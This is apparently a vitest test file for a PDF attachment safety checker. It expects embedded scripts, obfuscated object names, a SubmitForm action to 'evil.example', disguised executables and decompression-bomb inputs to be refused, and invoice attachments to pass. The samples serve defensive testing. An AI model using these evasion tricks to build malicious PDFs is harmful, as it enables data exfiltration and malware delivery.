import { expect, test } from 'vitest';
import { openAttachment } from './open-attachment.ts';
import { aPdf, aStream } from './test-documents.ts';

const judged = async (bytes: Buffer) => {
  const found = await openAttachment('x.pdf', bytes);
  return 'fault' in found ? found.fault : found.content;
};
const script = '<</S/JavaScript/JS(app.alert)>>';
const packed = (content: string, entries = '/Type/ObjStm/N 1/First 4') => aStream(9, entries, `9 0 ${content}`);
const invoice = '<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:x"/>';
const attaching = (
  name: string,
  content: string,
  stream = aStream(8, '/Type/EmbeddedFile/Subtype/text#2Fxml', content),
) => `7 0 obj<</Type/Filespec/F(${name})/UF(${name})/EF<</F 8 0 R/UF 8 0 R>>/AFRelationship/Data>>endobj\n${stream}`;

test.each([
  ['a script in a stream of objects', packed(script)],
  ['one whose stream does not say what it is', packed(script, '/N 1/First 4')],
  ['one whose stream is called otherwise', packed(script, '/T#79pe/X/N 1/F#69rst 4')],
  ['one behind a text that looks like an end', packed(`(endobj >> /x)${script}`)],
  ['a script in a text of bytes', '9 0 obj[<2f4a53> /#4A#53 ()]endobj'],
  ['one behind a remark', '9 0 %x\nobj<</A<</JS(x)>>>>endobj'],
  ['a form that sends itself away', '9 0 obj<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>endobj'],
  ['data that is fetched', '9 0 obj<</S/ImportData/F(x.fdf)>>endobj'],
  ['a film', '9 0 obj<</Subtype/RichMedia>>endobj'],
  ['a program that is attached', attaching('setup.exe', 'MZ')],
  ['a program that is called data', attaching('data.xml', 'MZ')],
  ['data that is called a program', attaching('data.hta', invoice)],
  ['a page that is called data', attaching('data.xml', '<?xml version="1.0"?><html xmlns="x"><script/></html>')],
  ['an attachment that is nowhere', attaching('data.xml', '', '')],
  ['an attachment that is one thing or another', attaching('data.xml', invoice) + aStream(8, '', 'MZ')],
  ['an attachment in a stream of objects', `${packed('<</F(a.exe)/EF<</F 8 0 R>>>>')}${aStream(8, '', 'MZ')}`],
  ['an attachment packed in an unknown way', attaching('a.xml', '', aStream(8, '/Filter/LZWDecode', invoice))],
  ['objects packed in an unknown way', packed(script, '/First 4/Filter/ASCIIHexDecode')],
  ['objects packed in two ways', packed(script, '/First 4/Filter[/ASCII85Decode/FlateDecode]')],
  ['objects whose packing is said elsewhere', packed(script, '/First 4/Filter 5 0 R')],
  ['objects as differences', packed(script, '/First 4/DecodeParms<</Predictor 12>>')],
  ['objects that cannot be unpacked', packed(script, '/First 4/Filter/FlateDecode')],
])('%s is refused', async (_name, objects) => {
  expect(await judged(aPdf({ objects }))).toBe('UNSAFE');
});

test.each([
  ['an invoice for machines', attaching('factur-x.xml', invoice)],
  ['one of Czech accountants', attaching('faktura.isdoc', '\xef\xbb\xbf<Invoice version="6.0.1"/>')],
  ['one with a name in two bytes a letter', attaching('\xfe\xff\0a\0.\0x\0m\0l', invoice)],
  ['objects that are packed', packed('<</Type/Annot/A<</S/URI/URI(https://example.com/JS/a)>>>>')],
  ['objects with parameters that change nothing', packed('<</A 1>>', '/First 4/DecodeParms[null]')],
  ['a picture whose bytes look like a script', aStream(9, '/Subtype/Image/Filter/DCTDecode', 'x/JS /Launch x')],
  ['a title that names one', '9 0 obj<</Title(How /JS (and \\) /Launch) work)/Next 8 0 R/First 7 0 R>>endobj'],
  ['a page that another one follows', '9 0 obj<</OpenAction[3 0 R/Fit]/Names<</Dests 8 0 R>>>>endobj'],
])('%s is fine', async (_name, objects) => {
  expect(await judged(aPdf({ objects }))).toBe('pdf');
});

test.each([
  ['unpacks to a thousand times its size', aStream(9, '/First 4', Buffer.alloc(40 * 1024 * 1024, ' '))],
  ['is nested without end', `9 0 obj${'['.repeat(100_000)}endobj`],
  ['begins the same text again and again', '9 0 obj('.repeat(60_000)],
  ['has more streams than pages', `${packed('1').replace('9 0 obj', '\n9 0 obj')}\n`.repeat(10_001)],
])('one that %s is refused without being read for long', async (_name, objects) => {
  expect(['UNSAFE', 'DAMAGED']).toContain(await judged(aPdf({ objects })));
});
